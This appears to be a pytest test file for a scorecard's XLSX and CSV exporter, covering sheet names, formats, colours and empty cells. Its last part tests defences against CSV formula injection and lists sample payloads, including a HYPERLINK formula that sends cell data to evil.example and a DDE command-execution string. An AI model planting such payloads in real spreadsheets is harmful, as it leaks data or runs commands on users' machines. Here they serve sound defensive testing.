import csv
import io

import openpyxl
import pytest

from scorecard.exports import (
    CSV_COLUMNS,
    ExportKpiRow,
    ExportPerspective,
    ExportScorecard,
    sheet_title,
    to_csv,
    to_xlsx,
)

FORBIDDEN_IN_SHEET_NAMES = set("[]:*?/\\")


def kpi(perspective: str, name: str, **values) -> ExportKpiRow:
    defaults = {
        "unit": "",
        "actual": None,
        "goal": None,
        "red_flag": None,
        "score": None,
        "status": "grey",
        "progress": None,
        "forecast": None,
        "stale": False,
    }
    return ExportKpiRow(perspective=perspective, name=name, **(defaults | values))


@pytest.fixture
def export() -> ExportScorecard:
    customer = [
        kpi("Customer", "Followers", unit="followers", actual=9_200.0, goal=10_000.0, red_flag=8_000.0,
            score=5.3333, status="amber", progress=0.6, forecast=9_900.0, forecast_status="amber", decimals=0),
        kpi("Customer", "Response time", unit="h", actual=2.5, goal=4.0, red_flag=8.0, score=7.92,
            status="green", progress=1.0, forecast=2.4, forecast_status="green", decimals=1),
    ]  # fmt: skip
    financial = [
        kpi("Financial: revenue / cost", "Cost per lead", unit="€", actual=31.25, goal=20.0, red_flag=30.0,
            score=2.92, status="red", progress=0.0, stale=True, decimals=2),
        kpi("Financial: revenue / cost", "Revenue from social", unit="€", status="grey"),
    ]  # fmt: skip
    return ExportScorecard(
        title="Social media scorecard 2027",
        team="Acme Social Media",
        period_label="2027-03",
        score=5.39,
        status="amber",
        perspectives=[
            ExportPerspective("Customer", "How do customers see us?", 6.63, "amber", customer),
            ExportPerspective("Financial: revenue / cost", "What does it bring in?", 2.92, "red", financial),
            ExportPerspective("Social media", "How do our channels do?", None, "grey", []),
        ],
    )


def open_workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def data_rows(sheet) -> list[dict]:
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_workbook_has_a_summary_then_one_sheet_per_perspective_with_valid_names(export):
    workbook = open_workbook(to_xlsx(export))

    assert workbook.sheetnames == ["Summary", "Customer", "Financial revenue cost", "Social media"]
    for name in workbook.sheetnames:
        assert len(name) <= 31 and not FORBIDDEN_IN_SHEET_NAMES & set(name)


def test_summary_holds_the_overall_and_perspective_scores_as_numbers(export):
    summary = open_workbook(to_xlsx(export))["Summary"]

    assert summary["A1"].value == "Social media scorecard 2027"
    assert (summary["B2"].value, summary["B3"].value) == ("Acme Social Media", "2027-03")
    assert [c.value for c in summary[5]] == ["Perspective", "Guiding question", "Score", "Status", "KPIs"]
    assert [c.value for c in summary[6]] == ["Overall", None, 5.39, "Below goal", 4]
    assert [c.value for c in summary[7]] == ["Customer", "How do customers see us?", 6.63, "Below goal", 2]
    assert [c.value for c in summary[9]] == ["Social media", "How do our channels do?", None, "No score", 0]
    assert summary["C6"].number_format == "0.00"


def test_perspective_sheet_holds_the_same_numbers_as_the_export(export):
    workbook = open_workbook(to_xlsx(export))

    rows = data_rows(workbook["Customer"])
    assert rows[0] == {
        "KPI": "Followers", "Unit": "followers", "Actual": 9_200, "Goal": 10_000, "Red flag": 8_000,
        "Score": 5.3333, "Status": "Below goal", "Progress": 0.6, "Forecast": 9_900, "Forecast status": "Below goal",
        "Stale data": "No",
    }  # fmt: skip
    cost = data_rows(workbook["Financial revenue cost"])[0]
    assert (cost["Actual"], cost["Goal"], cost["Red flag"], cost["Score"]) == (31.25, 20.0, 30.0, 2.92)
    assert (cost["Status"], cost["Stale data"]) == ("Red flag", "Yes")


def test_missing_values_stay_empty_cells_not_zero(export):
    revenue = data_rows(open_workbook(to_xlsx(export))["Financial revenue cost"])[1]

    assert revenue["Actual"] is None and revenue["Score"] is None and revenue["Progress"] is None
    assert revenue["Status"] == "No score"


def test_status_cells_are_filled_with_the_status_colour_and_carry_the_word(export):
    workbook = open_workbook(to_xlsx(export))
    customer, financial = workbook["Customer"], workbook["Financial revenue cost"]

    def fill(cell) -> str:
        return cell.fill.fgColor.rgb[-6:]

    assert (customer["G2"].value, fill(customer["G2"])) == ("Below goal", "CC8A00")
    assert (customer["G3"].value, fill(customer["G3"])) == ("On target", "198754")
    assert (financial["G2"].value, fill(financial["G2"])) == ("Red flag", "DC3545")
    assert (financial["G3"].value, fill(financial["G3"])) == ("No score", "6C757D")
    assert fill(workbook["Summary"]["D6"]) == "CC8A00"


def test_numbers_get_formats_by_kind(export):
    customer = open_workbook(to_xlsx(export))["Customer"]

    assert customer["C2"].number_format == "#,##0"  # followers, no decimals
    assert customer["C3"].number_format == "#,##0.0"  # response time, one decimal
    assert customer["F2"].number_format == "0.00"  # score
    assert customer["H2"].number_format == "0%"  # progress


def test_header_is_bold_and_columns_have_widths(export):
    customer = open_workbook(to_xlsx(export))["Customer"]

    assert all(cell.font.b for cell in customer[1])
    assert customer.column_dimensions["A"].width >= len("Response time")
    assert customer.freeze_panes == "B2"


@pytest.mark.parametrize(
    ("name", "taken", "expected"),
    [
        ("Customer", [], "Customer"),
        ("a/b\\c?d*e:f[g]h", [], "a b c d e f g h"),
        ("x" * 40, [], "x" * 31),
        ("summary", ["Summary"], "summary (2)"),
        ("y" * 40, ["y" * 31], "y" * 27 + " (2)"),
        ("'quoted'", [], "quoted"),
        ("Revenue / cost", [], "Revenue cost"),
        ("???", [], "Perspective"),
    ],
)
def test_sheet_names_are_made_valid_and_unique(name, taken, expected):
    assert sheet_title(name, taken) == expected


def test_csv_has_one_row_per_kpi_with_its_perspective_and_parses_back(export):
    rows = list(csv.DictReader(io.StringIO(to_csv(export))))

    assert list(rows[0]) == CSV_COLUMNS
    assert [r["kpi"] for r in rows] == ["Followers", "Response time", "Cost per lead", "Revenue from social"]
    followers = rows[0]
    assert followers["team"] == "Acme Social Media" and followers["period"] == "2027-03"
    assert (followers["perspective"], float(followers["perspective_score"])) == ("Customer", 6.63)
    assert float(followers["actual"]) == 9_200.0 and float(followers["score"]) == 5.3333
    assert (followers["status"], followers["forecast_status"], followers["stale"]) == ("amber", "amber", "false")
    cost = rows[2]
    assert cost["perspective"] == "Financial: revenue / cost" and cost["unit"] == "€"
    assert cost["stale"] == "true"
    assert rows[3]["actual"] == "" and rows[3]["status"] == "grey"


# Text a spreadsheet would run as a formula (OWASP "CSV Injection"), as users could type it into names.
FORMULA_TEXTS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open report")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
]


@pytest.fixture
def hostile_export() -> ExportScorecard:
    rows = [
        kpi("=Perspective()", text, unit=text, actual=-5.0, goal=-2.0, red_flag=-8.0, score=3.3, status="amber")
        for text in FORMULA_TEXTS
    ]
    return ExportScorecard(
        title="=TITLE()",
        team="@Team",
        period_label="2027-03",
        score=3.3,
        status="amber",
        perspectives=[ExportPerspective("=Perspective()", "+Question?", 3.3, "amber", rows)],
    )


def test_names_that_start_like_formulas_are_plain_text_in_the_workbook(hostile_export):
    workbook = open_workbook(to_xlsx(hostile_export))
    sheet = workbook[workbook.sheetnames[1]]
    summary = workbook["Summary"]

    for row, text in enumerate(FORMULA_TEXTS, start=2):
        for cell in (sheet.cell(row=row, column=1), sheet.cell(row=row, column=2)):  # KPI name and unit
            assert (cell.value, cell.data_type) == (text, "s")
            assert cell.quotePrefix, f"{text!r} would turn into a formula when edited"
    for cell in (summary["A1"], summary["B2"], summary["A7"], summary["B7"]):  # title, team, perspective, question
        assert cell.data_type == "s" and cell.quotePrefix and cell.value[0] in "=@+"


def test_negative_numbers_stay_numbers_in_the_workbook(hostile_export):
    sheet = open_workbook(to_xlsx(hostile_export)).worksheets[1]

    assert [(c.value, c.data_type) for c in sheet[2][2:5]] == [(-5.0, "n"), (-2.0, "n"), (-8.0, "n")]


def test_text_that_only_looks_special_is_kept_as_it_is_in_the_workbook():
    export = ExportScorecard(
        title="Scorecard", team="Acme", period_label="2027-03", score=None, status="grey",
        perspectives=[ExportPerspective("Customer", "?", None, "grey", [
            kpi("Customer", "#N/A", unit="=", status="grey"),
            kpi("Customer", "Bell\x07 and form feed\x0c", unit="a-b", status="grey"),
        ])],
    )  # fmt: skip
    sheet = open_workbook(to_xlsx(export))["Customer"]

    assert (sheet["A2"].value, sheet["A2"].data_type, sheet["A2"].quotePrefix) == ("#N/A", "s", False)
    assert (sheet["B2"].value, sheet["B2"].data_type) == ("=", "s")
    assert sheet["A3"].value == "Bell and form feed"  # characters a workbook cannot hold are left out
    assert not sheet["B3"].quotePrefix


def test_names_that_start_like_formulas_are_neutralised_in_the_csv(hostile_export):
    rows = list(csv.DictReader(io.StringIO(to_csv(hostile_export))))

    assert [row["kpi"] for row in rows] == ["'" + text for text in FORMULA_TEXTS]
    assert [row["unit"] for row in rows] == ["'" + text for text in FORMULA_TEXTS]
    assert {(row["team"], row["perspective"]) for row in rows} == {("'@Team", "'=Perspective()")}


def test_a_line_break_inside_a_name_cannot_start_a_new_csv_row():
    export = ExportScorecard(
        title="Scorecard", team="Acme", period_label="2027-03", score=None, status="grey",
        perspectives=[ExportPerspective("Customer", "?", None, "grey", [kpi("Customer", "Reach\r=1+1")])],
    )  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(to_csv(export), newline="")))

    assert [row["kpi"] for row in rows] == ["Reach\r=1+1"]


def test_negative_numbers_stay_numbers_in_the_csv(hostile_export):
    row = next(csv.DictReader(io.StringIO(to_csv(hostile_export))))

    assert (row["actual"], row["goal"], row["red_flag"]) == ("-5.0", "-2.0", "-8.0")
